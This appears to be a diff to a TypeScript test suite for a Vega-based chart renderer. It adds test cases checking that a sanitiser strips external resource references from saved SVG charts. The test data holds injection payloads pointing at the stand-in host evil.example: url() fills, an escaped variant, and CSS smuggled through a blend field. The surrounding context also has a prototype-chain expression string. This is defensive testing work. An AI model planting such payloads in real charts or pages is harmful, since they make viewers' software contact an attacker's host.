@@ -3,6 +3,7 @@ import { expressionInterpreter } from 'vega-interpreter';
 import { afterEach, describe, expect, it } from 'vitest';
 import { chartFault } from '@/src/domain/notebook/chart-cell';
 import type { ChartSpec } from '@/src/domain/analysis/result';
+import { closedSvg } from '@/src/ui/charts/closed-svg';
 import { compileChart } from '@/src/ui/charts/compile-chart';
 import { NO_LOADER } from '@/src/ui/charts/no-loader';
 
@@ -48,6 +49,22 @@ const HARMLESS = [
   "datum['__proto__']['constructor']['constructor']('hit()')()",
 ];
 
+/** A saved picture has no policy around it: whoever opens it would ask for these. */
+const PAINTED: Readonly<Record<string, object>> = {
+  'a fill': { mark: { type: 'bar', fill: 'url(http://evil.example/a.svg#a)' } },
+  'a stroke in other letters': { mark: { type: 'bar', stroke: "URL( 'http://evil.example/a.svg#a')" } },
+  'a fill that is spelled otherwise': { mark: { type: 'bar', fill: 'u\\72l(http://evil.example/a.svg#a)' } },
+  'a fill of each row': {
+    transform: [{ calculate: "'url(http://evil.example/' + datum.a + '#a)'", as: 'b' }],
+    mark: 'bar',
+    encoding: { ...ENCODING, fill: { field: 'b', scale: null } },
+  },
+  'a way of blending': { mark: { type: 'bar', blend: 'normal; cursor: url(http://evil.example/a.png), auto' } },
+  'a set of images': {
+    mark: { type: 'bar', blend: 'normal; cursor: image-set("http://evil.example/a.png" 1x), auto' },
+  },
+};
+
 let hits = 0;
 Object.assign(globalThis, { hit: () => ++hits });
 afterEach(() => {
@@ -81,6 +98,30 @@ describe('a chart of a stranger', () => {
     await draw(spec).catch(() => undefined);
 
     expect(hits).toBe(0);
+  });
+
+  it.each(Object.entries(PAINTED))('leads out of its saved picture by %s no more', async (_, spec) => {
+    const whole = { encoding: ENCODING, ...spec };
+    expect(chartFault(whole)).toBeUndefined();
+    const svg = await draw(whole);
+
+    expect(svg).toContain('evil.example');
+    expect(closedSvg(svg)).not.toContain('evil.example');
+    expect(closedSvg(svg)).toContain('<path');
+  });
+
+  it('keeps everything else of its saved picture, gradients and words that look like addresses among it', async () => {
+    const stops = ['#000', 'rgb(9, 9, 9)'].map((color, offset) => ({ color, offset }));
+    const svg = await draw({
+      layer: [
+        { mark: { type: 'bar', fill: { gradient: 'linear', stops } } },
+        { mark: { type: 'text', angle: 30, text: 'url(http://evil.example)' } },
+      ],
+      encoding: ENCODING,
+    });
+
+    expect(svg).toMatch(/fill="url\(#\w+\)".*url\(http:\/\/evil.example\)<\/text>/s);
+    expect(closedSvg(svg)).toBe(svg);
   });
 
   it('is drawn where it is harmless, and the trap is one', async () => {
